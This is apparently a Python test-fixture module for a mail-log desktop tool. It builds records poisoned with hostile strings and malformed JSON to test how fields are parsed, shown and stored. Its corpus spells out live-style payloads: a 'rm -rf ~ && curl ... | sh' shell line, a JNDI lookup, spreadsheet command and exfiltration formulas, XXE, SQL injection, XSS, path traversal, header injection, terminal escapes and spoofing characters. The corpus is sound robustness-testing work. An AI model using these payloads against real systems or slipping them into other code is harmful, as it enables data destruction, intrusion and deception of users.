"""Attacks that a mail sender or a broken server can put into records: what each is, and where it goes.

CORPUS holds texts, for any test that shows or stores text; FRAGMENTS holds pieces of JSON that are no plain
text; ODD_KEYS holds member names. every_record() puts each of them into each field.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from random import Random
from typing import Any, Final

from pod_desktop.core.clock import HOUR, parse_iso
from pod_desktop.core.record import MAILLOG, MESSAGE
from pod_desktop.simulator.chance import Weighted, seed_of
from pod_desktop.simulator.item import Item

_BIG: Final = 1_000_000


def _tables(levels: int) -> str:
    """Nested tables: 14 levels freeze a rich-text label for seconds, 18 for ever."""
    return "<table><tr><td>" * levels + "x"


CORPUS: Final[dict[str, str]] = {
    # Read as rich text
    "bold": "<b>URGENT</b> <font color=red size=7>x</font>",
    "image of a local file": "<img src='file:///etc/passwd'>",
    "image of a device": "<img src='/dev/zero'><img src='//203.0.113.9/share/x.png'>",
    "image from outside": '<img src="http://203.0.113.9/t.gif?u=1">',
    "link": "<a href='file:///etc/passwd'>click</a> <a href=\"search-ms:query=x&crumb=location:\\\\203.0.113.9\\s\">here</a>",
    "script": "<script>alert(1)</script><svg onload=alert(1)>",
    "style": "<style>*{font-size:300px}</style><h1>x</h1>",
    "rich text mark": "<qt>not <i>plain</i></qt>",
    "nested tables 14": _tables(14),
    "nested tables 18": _tables(18),
    "nested tables 200": _tables(200),
    "entities": "&lt;b&gt; &amp;amp; &#x202e; &nbsp;&notanentity;",
    "unclosed": "<table><td><tr><![CDATA[ <!-- <pre> \" ' >",
    "markdown": "# x\n[a](file:///etc/passwd) ![](http://203.0.113.9/) `` ` ``",
    # Read as something to open
    "file link": "file:///etc/passwd",
    "smb link": "\\\\203.0.113.9\\share\\x.scf smb://203.0.113.9/x",
    "search-ms link": "search-ms:query=x&crumb=location:%5c%5c203.0.113.9",
    "javascript link": "javascript:alert(1)//https://ok.example/",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "user in link": "https://bank.example@203.0.113.9:8080/login?next=//evil.example",
    "odd link": "http://0x7f.1/ http://[::1]:22/ http://ⓔⓧⓐⓜⓟⓛⓔ.example/ hxxp://x",
    # Characters that are not seen, or seen as others
    "right-to-left override": "invoice\u202efdp.exe",
    "bidi controls": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200fabc",
    "unclosed isolate": "\u2067\u2067\u2067admin \u05d0\u05d1\u05d2",
    "mixed directions": "pay 100 שקל to خالد now (urgent)",
    "zero width": "pay\u200bpal\u200c.exa\u200dmple\ufeff\u2060",
    "soft hyphen": "pass\u00adword",
    "tag characters": "hello\U000e0001\U000e0068\U000e0069\U000e007f",
    "variation selectors": "a\ufe0f\ufe0e\U000e0100b",
    "fillers": "\u3164\u115f\u1160\uffa0\u2800",
    "odd blanks": "a\u00a0b\u2003c\u3000d\u202fe\u1680f\u180eg",
    "line separators": "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
    "Cyrillic for Latin": "p\u0430yp\u0430l@ex\u0430mple.ex\u0430mple",
    "Greek for Latin": "\u0391dm\u03b9n@\u03b5xample.example",
    "full width": "ａｄｍｉｎ＠ｅｘａｍｐｌｅ．ｅｘａｍｐｌｅ",
    "ligatures": "ﬁle oﬃce ﬂag №1 ⑴ ㎏ ℡",
    "mathematical letters": "𝐏𝐚𝐲𝐏𝐚𝐥 𝓢𝓮𝓬𝓾𝓻𝓮 🅰🅱",
    "digits for letters": "rnicrosoft.example paypa1.example g00gle.example",
    "punycode": "security@xn--pypal-4ve.example",
    "broken punycode": "a@xn--.example b@xn--\u0430.example c@xn--zzzzzzzz99999.example",
    "dots that are none": "user@exam。ple．example｡",
    "combining marks": "Z" + "\u0335\u0321\u0337\u0317\u033f\u0348\u0353" * 300 + "algo",
    "emoji family": "👩‍👩‍👧‍👦" * 50 + "🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪☠️",
    "Arabic ligature": "\ufdfd" * 40,
    "not characters": "\ufffe\uffff\U0001ffff\U0010ffff\ufdd0",
    "private use": "\ue000\uf8ff\U000f0000",
    "casing": "ıİſKß ẞ ǅ ﬀ ŉ ΐ STRASSE straße",
    "normal forms": "é e\u0301 Å A\u030a Å ｶﾞ ガ",
    # Control characters
    "NUL": "before\x00after",
    "all control characters": "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "terminal colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "terminal title": "\x1b]0;owned\x07 \x1b]8;;file:///etc/passwd\x1b\\link\x1b]8;;\x1b\\",
    "terminal clipboard": "\x1b]52;c;cm0gLXJmIC8K\x07",
    "8-bit CSI": "\x9b31mred\x9d0;title\x9c",
    "backspaces": "safe.txt\x08\x08\x08\x08exe",
    "header injection": "x\r\nBcc: everyone@acme.example\r\n\r\n<html>",
    "line breaks": "a\nb\rc\r\nd\te",
    # Read as code by another program
    "spreadsheet command": "=cmd|' /C calc'!A0",
    "spreadsheet link": '=HYPERLINK("http://203.0.113.9/?x="&A1,"ok")',
    "spreadsheet plus": "+1+cmd|' /C calc'!A0",
    "spreadsheet minus": "-2+3",
    "spreadsheet at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet after blank": "\t=1+1",
    "comma and quotes": 'a,"b",\'c\';"d\ne"',
    "SQL": "'; DROP TABLE segment; --",
    "SQL wildcard": "100%_[a-z]^*?",
    "full-text syntax": '" OR 1 NEAR(a b) AND {x y}: *^ -"',
    "query syntax": "subject:(a OR *:*) AND NOT _exists_:x /.*/ [a TO b}",
    "regular expression": "(a+)+$ \\K(?R)[[:alpha:]]{1,99999}",
    "format directives": "%s%n%x {0} {0.__class__} {{x}} ${jndi:ldap://203.0.113.9/a} $(id) `id` %PATH%",
    "template": "{envelope.from} {msg.header.subject[0]} {{7*7}} {% x %}",
    "shell": "; rm -rf ~ && curl http://203.0.113.9 | sh",
    "JSON inside": '{"action":"add","value":"*"}',
    "JSON breakout": '","action":"delete","x":"',
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "mnemonics": "Save && &Delete &all [*] [*][*]",
    "path": "../../../../etc/passwd",
    "Windows path": "C:\\Windows\\System32\\..\\..\\x:stream",
    "device name": "CON.txt",
    "long file name": "a" * 300 + ".pdf" + " " * 200 + ".exe",
    "glob": "*",
    "everyone": "@",
    "top-level domain": "com",
    # Broken mail
    "broken encoded word": "=?utf-8?B?4oCu=?= =?x?Q?=ZZ?= =?utf-8?B?",
    "encoded word of control characters": "=?utf-8?Q?a=00b=1B[31m=0D=0ABcc:_x?=",
    "encoded override": "=?utf-8?B?aW52b2ljZeKArmZkcC5leGU=?=",
    "unknown charset": "=?x-unknown?Q?abc?= =?utf-7?Q?+ADw-b+AD4-?=",
    "many encoded words": "=?utf-8?Q?a?= " * 2_000,
    "two at signs": "a@b@c.example",
    "quoted local part": '"very.(),:;<>[]\\".VERY.\\"very@\\\\ \\"very\\".unusual"@acme.example',
    "address literal": "user@[IPv6:2001:db8::1]",
    "source route": "<@a.example,@b.example:user@acme.example>",
    "bare angle brackets": "<>",
    "unbalanced angle brackets": "<<<user@acme.example>",
    "percent route": "user%acme.example@relay.example",
    "blank address": " ",
    "long address": "a" * 5_000 + "@" + "b." * 3_000 + "example",
    "many addresses": ", ".join(f"user{n}@acme.example" for n in range(3_000)),
    "folded": "a\r\n\t" * 500,
    # Times and numbers as text
    "day that is none": "2026-02-30T25:61:61.000000-0700",
    "year 0": "0000-00-00T00:00:00Z",
    "year 9999": "9999-12-31T23:59:59.999999-1400",
    "year 10000": "+010000-01-01T00:00:00Z",
    "far past": "0001-01-01T00:00:00+1400",
    "odd offset": "2026-11-24T09:00:00+99:99",
    "leap second": "2026-06-30T23:59:60Z",
    "epoch": "1700000000",
    "number": "1e400",
    "not a number": "NaN",
    "address out of range": "999.256.1.1",
    "mapped address": "::ffff:198.51.100.7%eth0",
    # Emptiness and size
    "empty": "",
    "blanks": "   \t  ",
    "null in words": "null",
    "one long word": "W" * 20_000,
    "64 KiB": "x y " * 16_384,
    "one megabyte": "A" * _BIG,
    "one megabyte of lines": "line\n" * (_BIG // 5),
    "one megabyte of emoji": "😀" * (_BIG // 4),
    "one megabyte of marks": "\u202e\u0301" * (_BIG // 5),
}
_LARGE: Final = frozenset(
    {"one megabyte", "one megabyte of lines", "one megabyte of emoji", "one megabyte of marks"}
)

FRAGMENTS: Final[dict[str, bytes]] = {
    "null": b"null",
    "true": b"true",
    "zero": b"0",
    "minus one": b"-1",
    "minus zero": b"-0.0",
    "fraction": b"1.5",
    "2^53+1": b"9007199254740993",
    "2^63": b"9223372036854775808",
    "2^64": b"18446744073709551616",
    "2^70": b"1180591620717411303424",
    "1e400": b"1e400",
    "-1e400": b"-1e400",
    "NaN": b"NaN",
    "Infinity": b"-Infinity",
    "5,000 digits": b"7" * 5_000,
    "0.000…1": b"0." + b"0" * 500 + b"1",
    "empty array": b"[]",
    "empty object": b"{}",
    "array for text": b'["a","b"]',
    "object for text": b'{"address":"a@b.example"}',
    "array of mixed": b'[1,null,"a",{"b":[]},true]',
    "63 levels": b"[" * 50 + b"]" * 50,
    "100 levels": b"[" * 100 + b"]" * 100,
    "1,000 levels": b'{"a":' * 1_000 + b"1" + b"}" * 1_000,
    "5,000 levels": b"[" * 5_000 + b"]" * 5_000,
    "100,000 numbers": b"[" + b"1," * 99_999 + b"1]",
    "20,000 texts": b"[" + b'"user@acme.example",' * 19_999 + b'"x"]',
    "60,000 members": b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(60_000)) + b"}",
    "lone high surrogate": b'"a\\ud800b"',
    "lone low surrogate": b'"a\\udfffb"',
    "surrogates the wrong way round": b'"\\ude00\\ud83d"',
    "escaped NUL": b'"a\\u0000b"',
    "everything escaped": b'"\\u003cb\\u003e\\u202e\\/\\b\\f"',
    "raw newline in text": b'"a\nb"',
    "raw escape in text": b'"a\x1b[31mb"',
    "invalid UTF-8": b'"a\xff\xfe\xc0\xaf\xed\xa0\x80b"',
    "bad escape": b'"a\\xb\\u12"',
    "duplicate members": b'{"a":1,"a":2,"a":{"b":3}}',
    "dotted members": b'{"a.b.c":1,"a":{"b.c":2,"b":{"c":3}}}',
    "empty members": b'{"":1," ":2,"\\t":3,"\\u0000":4,"\\u202e":5}',
    "prototype members": b'{"__proto__":{"x":1},"constructor":1,"__class__":1,"toString":1}',
}
ODD_KEYS: Final = (
    "",
    " ",
    ".",
    "..",
    "a.b",
    "filter.qid",
    "ts",
    "\u202e",
    "\x00",
    "<b>",
    "__proto__",
    "k" * 10_000,
    "[0]",
    '"',
)

# Where attacks go: paths into a record; a path is made where it is missing.
Path = tuple[str | int, ...]
FIELDS: Final[dict[str, tuple[Path, ...]]] = {
    MESSAGE: (
        ("guid",),
        ("ts",),
        ("envelope",),
        ("envelope", "from"),
        ("envelope", "rcpts"),
        ("envelope", "rcpts", 0),
        ("connection", "ip"),
        ("connection", "host"),
        ("connection", "helo"),
        ("connection", "country"),
        ("connection", "tls", "inbound", "version"),
        ("msg",),
        ("msg", "header", "subject"),
        ("msg", "header", "subject", 0),
        ("msg", "header", "from", 0),
        ("msg", "header", "to", 0),
        ("msg", "header", "message-id", 0),
        ("msg", "normalizedHeader", "subject", 0),
        ("msg", "normalizedHeader", "from", 0),
        ("msg", "parsedAddresses", "from", 0),
        ("msg", "parsedAddresses", "fromDisplayNames", 0),
        ("msg", "sizeBytes"),
        ("msg", "lang"),
        ("filter",),
        ("filter", "qid"),
        ("filter", "disposition"),
        ("filter", "actions"),
        ("filter", "actions", 0, "rule"),
        ("filter", "quarantine", "folder"),
        ("filter", "quarantine", "rule"),
        ("filter", "routeDirection"),
        ("filter", "durationSecs"),
        ("filter", "modules", "spam", "scores", "overall"),
        ("filter", "modules", "spam", "scores", "classifiers", "phish"),
        ("filter", "modules", "spf", "result"),
        ("filter", "modules", "dmarc", "authResults"),
        ("filter", "modules", "av", "virusNames", 0),
        ("msgParts",),
        ("msgParts", 0, "labeledName"),
        ("msgParts", 0, "detectedName"),
        ("msgParts", 0, "sha256"),
        ("msgParts", 0, "metadata"),
        ("msgParts", 0, "urls", 0, "url"),
        ("metadata", "origin", "data", "cid"),
        ("metadata", "origin", "data", "agent"),
    ),
    MAILLOG: (
        ("id",),
        ("ts",),
        ("data",),
        ("sm",),
        ("sm", "qid"),
        ("sm", "from"),
        ("sm", "to"),
        ("sm", "to", 0),
        ("sm", "stat"),
        ("sm", "dsn"),
        ("sm", "relay"),
        ("sm", "delay"),
        ("sm", "msgid"),
        ("sm", "sizeBytes"),
        ("sm", "mailer"),
        ("tls", "version"),
        ("pps", "cid"),
        ("metadata", "origin", "data", "cid"),
    ),
}
_SLOT: Final = "\u241fslot\u241f"
_ENCODE: Final = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
_NAMES: Final = Weighted(
    (*CORPUS, *FRAGMENTS),
    [
        0.05 if name in _LARGE else 0.2 if len(value) > 50_000 else 1.0
        for name, value in (*CORPUS.items(), *FRAGMENTS.items())
    ],
)


def poisoned(items: list[Item], share: float) -> list[Item]:
    """The items, some of them with an attack in one field, and some with an odd member more."""
    found = []
    for item in items:
        rng = Random(seed_of(item.rid, item.kind, "attack"))
        fields = FIELDS.get(item.kind)
        if fields and rng.random() < share:
            item = infected(
                item,
                rng.choice(fields),
                attack(_NAMES.draw(rng)),
                rng.choice(ODD_KEYS) if rng.random() < 0.2 else None,
            )
        found.append(item)
    return found


def attack(name: str) -> bytes:
    """The attack of this name as JSON.

    Raises:
        KeyError: there is none.
    """
    return FRAGMENTS[name] if name in FRAGMENTS else _ENCODE(CORPUS[name]).encode()


def infected(item: Item, path: Path, value: bytes, key: str | None = None) -> Item:
    """The item with this JSON value at this place, and a member of this name at its top."""
    record: dict[str, Any] = json.loads(item.frame)
    _place(record, path)
    text = _ENCODE(record)
    frame = text.encode().replace(_ENCODE(_SLOT).encode(), value, 1)
    if key is not None:
        # As text, at the end: the name may be a duplicate of one that is there.
        frame = frame[:-1] + b"," + _ENCODE(key).encode() + b':"odd"}'
    own_id = path[0] not in ("guid", "id")
    return item._replace(frame=frame, rid=item.rid if own_id else "")


def _place(record: dict[str, Any], path: Path) -> None:
    """Put the slot at the path, making what is missing on the way."""
    here: Any = record
    for step, following in zip(path, (*path[1:], None)):
        if following is None:
            fresh: Any = _SLOT
        else:
            fresh = [] if isinstance(following, int) else {}
        if isinstance(step, int):
            while len(here) <= step:
                here.append(type(fresh)())
            if following is None or not isinstance(here[step], type(fresh)):
                here[step] = fresh
            here = here[step]
        else:
            if following is None or not isinstance(here.get(step), type(fresh)):
                here[step] = fresh
            here = here[step]


def every_record(models: Mapping[str, Item] | None = None, most_bytes: int = 2_000_000) -> Iterator[Item]:
    """Each attack in each field, about 10,000 records, each with an id of its own.

    models: one sound record a kind that carries the attacks; default: generated ones.
    most_bytes: attacks larger than this are left out.

    An item's rid is what its record says, even where the attack is no JSON that a strict reader takes; it is
    '' where the attack sits in the id itself.
    """
    if models is None:
        models = _models()
    number = 0
    for kind, fields in FIELDS.items():
        model = models[kind]
        for path in fields:
            for name in (*CORPUS, *FRAGMENTS):
                value = attack(name)
                if len(value) > most_bytes:
                    continue
                number += 1
                rid = f"{model.rid[:-6]}{number:06d}"
                yield infected(
                    model._replace(rid=rid, frame=model.frame.replace(model.rid.encode(), rid.encode(), 1)),
                    path,
                    value,
                )
        for key in ODD_KEYS:
            number += 1
            rid = f"{model.rid[:-6]}{number:06d}"
            fresh = model._replace(rid=rid, frame=model.frame.replace(model.rid.encode(), rid.encode(), 1))
            yield infected(fresh, ("metadata", "customerId"), b'"odd member"', key)


def _models() -> dict[str, Item]:
    from pod_desktop.simulator.generator import Generator  # it imports this module

    begin = parse_iso("2026-11-24T17:00Z")
    generator = Generator(archive_rate=1)
    return {kind: next(generator.records(kind, begin, begin + HOUR)) for kind in FIELDS}
